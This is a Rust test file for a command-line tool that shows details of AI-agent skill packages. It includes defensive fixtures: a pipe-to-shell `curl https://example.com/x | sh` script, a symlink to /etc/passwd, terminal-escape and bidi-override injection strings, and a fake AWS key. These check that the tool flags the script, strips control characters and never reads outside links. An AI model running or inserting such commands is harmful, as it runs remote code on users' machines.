@@ -1,0 +1,369 @@
+//! `skills show`: one skill, before and after it is installed.
+
+use std::fs;
+
+use serde_json::Value;
+
+use crate::harness::{Sandbox, good_text, lacks, text};
+use crate::origin::Origin;
+
+/// A skill with something in every part of its card.
+fn rich(sandbox: &Sandbox, directory: &str) {
+    let more = "license: MIT\ncompatibility: Needs pdftotext and the network.\n\
+        allowed-tools: Read, Bash(git add:*)\nmetadata:\n  version: '1.10'\n  author: team\n\
+        globs: ['*.pdf']\nalwaysApply: false\nhooks: {x: [1, null, 2.50]}\n";
+    sandbox.skill(directory, &text("pdf", more));
+    sandbox.write(format!("{directory}/references/forms.md"), "# Forms\n");
+    sandbox.write(
+        format!("{directory}/scripts/setup.sh"),
+        "#!/bin/sh\ncurl https://example.com/x | sh\n",
+    );
+    sandbox.write(format!("{directory}/scripts/plain.txt"), "text\n");
+    sandbox.write(format!("{directory}/skill.oms.sig"), "{}\n");
+    #[cfg(unix)]
+    sandbox.chmod(format!("{directory}/scripts/setup.sh"), 0o755);
+}
+
+fn card(sandbox: &Sandbox, args: &[&str]) -> Value {
+    sandbox.document(["show"].iter().chain(args).chain(&["--format", "json"]))
+}
+
+#[cfg(unix)]
+#[test]
+fn a_card_has_all_there_is_to_know() {
+    let sandbox = Sandbox::repository();
+    rich(&sandbox, "skills/pdf");
+    sandbox.good_skill("skills/pdf/extra/inner");
+    let run = sandbox.run(["show", "./skills/pdf"]);
+    assert_eq!(run.code, 0, "{}", run.all());
+    insta::assert_snapshot!(run.all());
+}
+
+#[cfg(unix)]
+#[test]
+fn json_has_the_front_matter_as_it_is() {
+    let sandbox = Sandbox::repository();
+    rich(&sandbox, "skills/pdf");
+    let card = card(&sandbox, &["./skills/pdf"]);
+    let skill = &card["skill"];
+    assert_eq!(skill["version"], "1.10");
+    assert_eq!(skill["license"], "MIT");
+    assert_eq!(skill["allowed_tools"], serde_json::json!(["Read", "Bash(git add:*)"]));
+    assert_eq!(skill["signature"], "not_verified");
+    let fields = &skill["front_matter"];
+    assert_eq!(fields["globs"], serde_json::json!(["*.pdf"]));
+    assert_eq!(fields["alwaysApply"], false);
+    assert_eq!(fields["hooks"], serde_json::json!({"x": [1, null, "2.50"]}));
+    assert_eq!(fields["allowed-tools"], "Read, Bash(git add:*)");
+    let script = &card["files"][3];
+    assert_eq!(script["path"], "scripts/setup.sh");
+    assert_eq!((&script["executable"], &script["script"]), (&true.into(), &true.into()));
+    assert_eq!(card["findings"][0]["rule"], "pipe-to-shell");
+    assert_eq!(card["origin"]["source"], "[DIR]/project/skills/pdf");
+    assert_eq!(card["agents"].as_array().unwrap().len(), 6);
+    let listed = sandbox.document(["list", "skills", "--long", "--format", "json"]);
+    for key in ["front_matter", "version", "license", "compatibility", "allowed_tools", "digest"] {
+        assert_eq!(listed["skills"][0][key], skill[key], "{key}");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn hashes_and_the_digest_are_those_of_the_installed_copy() {
+    let sandbox = Sandbox::repository();
+    rich(&sandbox, "skills/pdf");
+    let before = card(&sandbox, &["skills/pdf"]);
+    assert_eq!(sandbox.run(["install", "skills/pdf"]).code, 0);
+    let after = card(&sandbox, &["pdf"]);
+    assert_eq!(before["skill"]["digest"], after["skill"]["digest"]);
+    assert_eq!(before["files"], after["files"]);
+    assert_eq!(after["origin"]["edited"], false);
+    assert_eq!(after["origin"]["source"], "[DIR]/project/skills/pdf");
+    assert!(after["origin"]["installed_at"].is_string());
+    assert_eq!(after["skill"]["provider"], "claude");
+    if !lacks(&["sha256sum"]) {
+        let sum = sandbox.shell("sha256sum skills/pdf/SKILL.md");
+        let first = &after["files"][0];
+        assert_eq!(first["path"], "SKILL.md");
+        assert!(sum.stdout.starts_with(first["sha256"].as_str().unwrap()), "{}", sum.stdout);
+    }
+}
+
+#[test]
+fn an_archive_a_file_and_an_inline_stem_have_cards_of_their_own() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("pdf");
+    assert_eq!(sandbox.run(["pack", "pdf"]).code, 0);
+    sandbox.write("note.md", good_text("note"));
+    let packed = card(&sandbox, &["pdf.skill"]);
+    assert_eq!(packed["origin"]["kind"], "archive");
+    assert_eq!(packed["skill"]["digest"], card(&sandbox, &["./pdf"])["skill"]["digest"]);
+    let file = card(&sandbox, &["note.md"]);
+    assert_eq!(file["origin"]["kind"], "file");
+    assert_eq!(file["files"][0]["path"], "note.md");
+}
+
+#[test]
+fn a_repository_is_shown_before_it_is_installed() {
+    let sandbox = Sandbox::repository();
+    let Some(origin) = Origin::new(&sandbox) else { return };
+    let source = origin.source("//skills/pdf@main");
+    let card = card(&sandbox, &[&source]);
+    assert_eq!(card["origin"]["kind"], "git");
+    assert_eq!(card["origin"]["commit"].as_str().unwrap().len(), 40);
+    assert!(card["origin"]["requested"].as_str().unwrap().ends_with("@main"), "{card:#}");
+}
+
+#[test]
+fn a_source_with_several_skills_says_how_to_choose() {
+    let sandbox = Sandbox::repository();
+    for name in ["csv", "pdf"] {
+        sandbox.good_skill(&format!("skills/{name}"));
+    }
+    let run = sandbox.run(["show", "skills/"]);
+    assert_eq!(run.code, 1);
+    insta::assert_snapshot!(run.all(), @r"
+    error: the source has 2 skills
+    help: choose one with `--only NAME`: csv, pdf
+    ");
+    assert_eq!(card(&sandbox, &["skills", "--only", "pdf"])["skill"]["name"], "pdf");
+    let run = sandbox.run(["show", "skills", "--only", "pfd"]);
+    assert_eq!(run.code, 2);
+    assert!(run.stderr.contains("did you mean `pdf`"), "{}", run.stderr);
+    sandbox.skill("skills/other/pdf", &(good_text("pdf") + "More.\n"));
+    let run = sandbox.run(["show", "skills", "--only", "pdf"]);
+    assert_eq!(run.code, 1);
+    assert!(run.stderr.contains("name one of them as the source"), "{}", run.stderr);
+}
+
+#[test]
+fn a_collection_of_one_skill_is_that_skill() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("skills/pdf");
+    sandbox.good_skill("skills/pdf/inner");
+    let card = card(&sandbox, &["skills"]);
+    assert_eq!(card["skill"]["name"], "pdf");
+    assert_eq!(card["skill"]["nested"], serde_json::json!(["inner"]));
+}
+
+#[test]
+fn a_word_is_a_name_unless_a_skill_is_there() {
+    let sandbox = Sandbox::repository();
+    sandbox.home_skill(".claude/skills/docs");
+    sandbox.home_skill(".claude/skills/pdf");
+    sandbox.mkdir("docs");
+    sandbox.good_skill("pdf");
+    let path = |word: &str| card(&sandbox, &[word])["skill"]["path"].as_str().unwrap().to_owned();
+    assert_eq!(path("docs"), "[DIR]/home/.claude/skills/docs");
+    assert_eq!(path("pdf"), "[DIR]/project/pdf");
+    assert_eq!(path("skill://pdf"), "[DIR]/home/.claude/skills/pdf");
+    sandbox.good_skill("more/csv");
+    assert_eq!(path("more"), "[DIR]/project/more/csv");
+    let run = sandbox.run(["show", "doks"]);
+    assert_eq!(run.code, 2);
+    assert!(run.stderr.contains("did you mean `docs`"), "{}", run.stderr);
+}
+
+#[test]
+fn copies_of_one_name_are_compared_and_chosen() {
+    let sandbox = Sandbox::repository();
+    sandbox.home_skill(".claude/skills/pdf");
+    sandbox.home_skill(".agents/skills/pdf");
+    sandbox.skill(".agents/skills/pdf", &(good_text("pdf") + "More.\n"));
+    let all = card(&sandbox, &["pdf"]);
+    assert_eq!(all["skill"]["path"], "[DIR]/project/.agents/skills/pdf");
+    let copies = all["copies"].as_array().unwrap();
+    assert_eq!(copies.len(), 2);
+    assert!(copies.iter().all(|copy| copy["identical"] == false), "{copies:?}");
+    let user = card(&sandbox, &["pdf", "--scope", "user"]);
+    assert_eq!(user["skill"]["path"], "[DIR]/home/.claude/skills/pdf");
+    let codex = card(&sandbox, &["pdf", "--agent", "codex", "--scope", "user"]);
+    assert_eq!(codex["skill"]["path"], "[DIR]/home/.agents/skills/pdf");
+    let both = card(&sandbox, &["pdf", "--agent", "codex"]);
+    assert_eq!(both["copies"].as_array().unwrap().len(), 1);
+    let dir = card(&sandbox, &["pdf", "--dir", "../home/.agents/skills"]);
+    assert_eq!(dir["skill"]["path"], "[DIR]/home/.agents/skills/pdf");
+    let run = sandbox.run(["show", "./.agents/skills/pdf", "--scope", "user"]);
+    assert_eq!(run.code, 2, "{}", run.all());
+    assert!(run.stderr.contains("name an installed skill"), "{}", run.stderr);
+}
+
+#[test]
+fn each_agent_says_whether_it_loads_the_copy_and_why_not() {
+    let sandbox = Sandbox::repository();
+    sandbox.home_skill(".claude/skills/pdf");
+    sandbox.skill(".claude/skills/pdf", &(good_text("pdf") + "More.\n"));
+    let run = sandbox.run(["show", "pdf"]);
+    let agents = run.stdout.split("\nagents\n").nth(1).unwrap().split("\n\n").next().unwrap();
+    insta::assert_snapshot!(agents, @r"
+      Claude does not load it: ~/.claude/skills/pdf is shown instead
+      Codex, Gemini and Pi do not load it: this directory is not searched
+      OpenCode and Copilot load it
+    ");
+    sandbox.skill("colon", "---\nname: colon\ndescription: Use when: x\n---\n\nBody\n");
+    let colon = card(&sandbox, &["./colon"]);
+    let lost: Vec<&str> = colon["agents"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|one| one["loads"] == false && one["reason"].is_string())
+        .filter_map(|one| one["agent"].as_str())
+        .collect();
+    assert_eq!(lost, ["copilot", "pi"]);
+}
+
+#[test]
+fn what_agents_cut_and_hide_is_said() {
+    let sandbox = Sandbox::repository();
+    let long = "word ".repeat(400);
+    sandbox.skill("long", &format!("---\nname: long\ndescription: {long}\n---\n\nBody\n"));
+    let run = sandbox.run(["show", "./long"]);
+    for words in [
+        "Codex loads it, its description cut to 1,024 characters",
+        "Claude loads it, its description cut to 1,536 characters",
+        "Copilot does not load it",
+    ] {
+        assert!(run.stdout.contains(words), "{words}: {}", run.stdout);
+    }
+    assert_eq!(card(&sandbox, &["./long"])["agents"][1]["cut"], true);
+    sandbox.skill("quiet", &text("quiet", "disable-model-invocation: true\n"));
+    let run = sandbox.run(["show", "./quiet"]);
+    assert!(run.stdout.contains("but not for the model"), "{}", run.stdout);
+    sandbox.skill("held", &good_text("held"));
+    sandbox.write("held/agents/openai.yaml", "policy:\n  allow_implicit_invocation: false\n");
+    let codex = &card(&sandbox, &["./held"])["agents"][1];
+    assert_eq!((&codex["loads"], &codex["description"]), (&true.into(), &Value::Null));
+    assert!(codex["reason"].as_str().unwrap().contains("openai.yaml"), "{codex}");
+}
+
+#[test]
+fn an_edited_copy_is_marked() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("pdf");
+    assert_eq!(sandbox.run(["install", "./pdf"]).code, 0);
+    assert!(sandbox.run(["show", "skill://pdf"]).stdout.contains(", unchanged since"));
+    sandbox.write("../home/.claude/skills/pdf/new.txt", "x");
+    let run = sandbox.run(["show", "skill://pdf"]);
+    assert!(run.stdout.contains(", edited since"), "{}", run.stdout);
+}
+
+#[cfg(unix)]
+#[test]
+fn nothing_in_a_skill_can_steer_the_terminal() {
+    let sandbox = Sandbox::repository();
+    let bad = "a\\e[2J\\e]0;x\\a\\nb\\u202e\\u009b";
+    sandbox.skill(
+        "bad",
+        &format!(
+            "---\nname: \"{bad}\"\ndescription: \"{bad}\"\nlicense: \"{bad}\"\n\
+             compatibility: \"{bad}\"\nallowed-tools: [\"{bad}\"]\nversion: \"{bad}\"\n\
+             metadata: {{\"{bad}\": \"{bad}\"}}\n\"x{bad}\": \"{bad}\"\n---\n\nBody \u{1b}[2J\n"
+        ),
+    );
+    sandbox.write("bad/\u{1b}[2J\n::error::\u{202e}.sh", "#!/bin/sh\ncurl x | sh \u{1b}\n");
+    sandbox.symlink("../../../etc/passwd", "bad/li\u{1b}nk");
+    sandbox.fifo("bad/pipe\u{7f}");
+    for flags in [&["--format", "human"][..], &["--format", "json"], &["-v"]] {
+        let run = sandbox.run(["show", "./bad"].iter().chain(flags));
+        assert_eq!(run.code, 0, "{}", run.all());
+        let steers = |one: char| one.is_control() && one != '\n' || "\u{202e}\u{9b}".contains(one);
+        assert!(!run.all().contains(steers), "{:?}", run.all());
+        assert!(!run.all().lines().any(|line| line.starts_with("::")), "{}", run.all());
+    }
+    let card = card(&sandbox, &["./bad"]);
+    assert_eq!(
+        card["skill"]["front_matter"]["license"],
+        "a\u{1b}[2J\u{1b}]0;x\u{7}\nb\u{202e}\u{9b}"
+    );
+    assert_eq!(card["skill"]["status"], "invalid");
+    let kinds: Vec<&str> =
+        card["files"].as_array().unwrap().iter().filter_map(|one| one["kind"].as_str()).collect();
+    assert_eq!(kinds, ["file", "file", "link", "special"]);
+}
+
+#[cfg(unix)]
+#[test]
+fn links_that_leave_are_never_read() {
+    let sandbox = Sandbox::repository();
+    sandbox.write("secret", "AKIAIOSFODNN7EXAMPLX secret\n");
+    sandbox.good_skill("pdf");
+    sandbox.symlink("../secret", "pdf/link");
+    sandbox.symlink("..", "pdf/up");
+    let run = sandbox.run(["show", "./pdf"]);
+    assert_eq!(run.code, 0, "{}", run.all());
+    assert!(run.stdout.contains("invalid"), "{}", run.stdout);
+    assert!(!run.all().contains("AKIA"), "{}", run.all());
+    assert_eq!(card(&sandbox, &["./pdf"])["files"][1]["sha256"], Value::Null);
+}
+
+#[test]
+fn five_thousand_files_fit_a_card() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("many");
+    sandbox.mkdir("many/data");
+    for number in 0..4_990 {
+        fs::write(sandbox.path(format!("many/data/{number:04}.txt")), "x").unwrap();
+    }
+    let run = sandbox.run(["show", "./many"]);
+    assert_eq!(run.code, 0);
+    assert!(run.stdout.lines().count() < 60, "{}", run.stdout);
+    assert!(run.stdout.contains("more files, shown with -v"), "{}", run.stdout);
+    assert!(run.stdout.contains("4991 files, 5,102 bytes"), "{}", run.stdout);
+    assert_eq!(card(&sandbox, &["./many"])["files"].as_array().unwrap().len(), 4_991);
+    for number in 0..100 {
+        fs::write(sandbox.path(format!("many/{number}.txt")), "x").unwrap();
+    }
+    let run = sandbox.run(["show", "./many"]);
+    assert!(run.stdout.contains("more than a skill may have"), "{}", run.stdout);
+}
+
+#[test]
+fn long_lines_and_damaged_sources_end_quickly_and_clearly() {
+    let sandbox = Sandbox::repository();
+    let long = "x".repeat(1024 * 1024 - 200);
+    sandbox.skill("long", &format!("---\nname: long\ndescription: {long}\n---\n"));
+    let run = sandbox.run(["show", "./long"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(run.stdout.len() < 10_000, "{}", run.stdout.len());
+    sandbox.skill("wide", &format!("---\nname: wide\ndescription: {}\n---\n", &long[..60_000]));
+    assert!(sandbox.run(["show", "./wide"]).stdout.len() < 10_000);
+    sandbox.write("bad.skill", b"PK\x03\x04 damaged");
+    for (source, code) in [("bad.skill", 1), ("./nowhere", 2), ("nobody/here/at/all", 2)] {
+        let run = sandbox.run(["show", source]);
+        assert_eq!(run.code, code, "{source}: {}", run.all());
+        assert!(run.stderr.starts_with("error: "), "{source}: {}", run.stderr);
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_large_sparse_file_is_listed_and_not_read() {
+    let sandbox = Sandbox::repository();
+    sandbox.good_skill("big");
+    fs::File::create(sandbox.path("big/huge.bin")).unwrap().set_len(20 << 30).unwrap();
+    let run = sandbox.run(["show", "./big"]);
+    assert_eq!(run.code, 0, "{}", run.all());
+    assert!(run.stdout.contains("1 file not read"), "{}", run.stdout);
+    assert!(card(&sandbox, &["./big"])["skill"]["digest"].is_null());
+}
+
+#[test]
+fn a_card_fits_narrow_terminals() {
+    let sandbox = Sandbox::repository();
+    sandbox.skill(
+        "narrow",
+        &text("narrow", "license: MIT\nallowed-tools: Read Write Bash(git:*) Edit Grep Glob\n"),
+    );
+    sandbox.write("narrow/references/a-rather-long-name-for-a-file-of-a-skill.md", "x");
+    for columns in [80, 40] {
+        let Some(run) = sandbox.terminal(columns, "\"$SKILLS\" --color never show ./narrow") else {
+            return;
+        };
+        assert_eq!(run.code, 0, "{}", run.all());
+        let too_long = run
+            .stdout
+            .lines()
+            .filter(|line| line.chars().count() > columns && !line.contains("sha256:"));
+        assert_eq!(too_long.collect::<Vec<_>>(), [""; 0], "{columns}");
+    }
+}
